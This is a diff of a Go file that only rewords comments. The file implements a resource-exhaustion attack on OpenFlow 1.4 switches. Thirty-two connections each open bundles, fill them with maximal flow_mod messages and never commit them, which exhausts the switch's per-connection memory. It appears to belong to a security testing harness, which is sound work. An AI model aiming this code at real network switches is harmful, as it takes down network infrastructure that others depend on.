@@ -11,9 +11,9 @@ import (
 	"time"
 )
 
-// The attack of an OpenFlow peer that opens bundles and never commits them.
+// This file has the attack of an OpenFlow peer that opens bundles and never commits them.
 
-// Messages and actions of OpenFlow 1.4.
+// Types of messages and actions of OpenFlow 1.4.
 const (
 	openflowFlowMod    = 14
 	openflowBundle     = 33 // OFPT_BUNDLE_CONTROL
@@ -25,14 +25,14 @@ const (
 	actionExperimenter = 0xffff
 	niciraVendor       = 0x2320
 	niciraNote         = 8
-	bundlers           = 32 // connections of the attack
-	// bundleRound is the number of bytes that a connection sends until it discards its bundle
-	// and begins a new one: more than the switch keeps for a connection.
+	bundlers           = 32 // number of the attack's connections
+	// bundleRound is the number of bytes after which a connection discards its bundle and begins
+	// another: more than the switch keeps for a connection.
 	bundleRound = 192 << 20
 )
 
-// bundleMessages has one message of each kind: with as many actions as a message can have,
-// with as many bytes, and as small as a message can be. Each kind meets another limit.
+// bundleMessages returns three flow_mods, each of which meets another limit: one with as many actions as
+// a message can have, one with as many bytes, and one as small as possible.
 func bundleMessages() [][]byte {
 	var queues []byte
 	for range 4000 {
@@ -45,11 +45,11 @@ func bundleMessages() [][]byte {
 	binary.BigEndian.PutUint16(note[8:], niciraNote)
 	var messages [][]byte
 	for _, actions := range [][]byte{queues, note, nil} {
-		b := make([]byte, 40) // cookie to importance
+		b := make([]byte, 40) // from cookie to importance
 		for i := range 4 {
 			b[20+i], b[24+i], b[28+i] = 0xff, 0xff, 0xff // no buffer, any port, any group
 		}
-		b = append(b, 0, 1, 0, 4, 0, 0, 0, 0) // matches all
+		b = append(b, 0, 1, 0, 4, 0, 0, 0, 0) // empty match
 		if actions != nil {
 			b = append(b, 0, applyActions)
 			b = append(binary.BigEndian.AppendUint16(b, uint16(8+len(actions))), 0, 0, 0, 0)
@@ -71,7 +71,7 @@ func bundleAdd(body []byte) []byte {
 	return append(append(b, 0, 0, 0, 1), body...)
 }
 
-// fillBundles starts connections that fill bundles for as long as the attack lasts.
+// fillBundles starts connections that fill bundles until the attack ends.
 func fillBundles(p *play) error {
 	var stop atomic.Bool
 	var ended sync.WaitGroup
@@ -92,7 +92,7 @@ func fillBundles(p *play) error {
 		ended.Go(func() {
 			for !stop.Load() {
 				if c.fillBundle(chunk, sent, &stop) != nil {
-					return // the play has ended
+					return // closed at the end of the attack
 				}
 			}
 		})
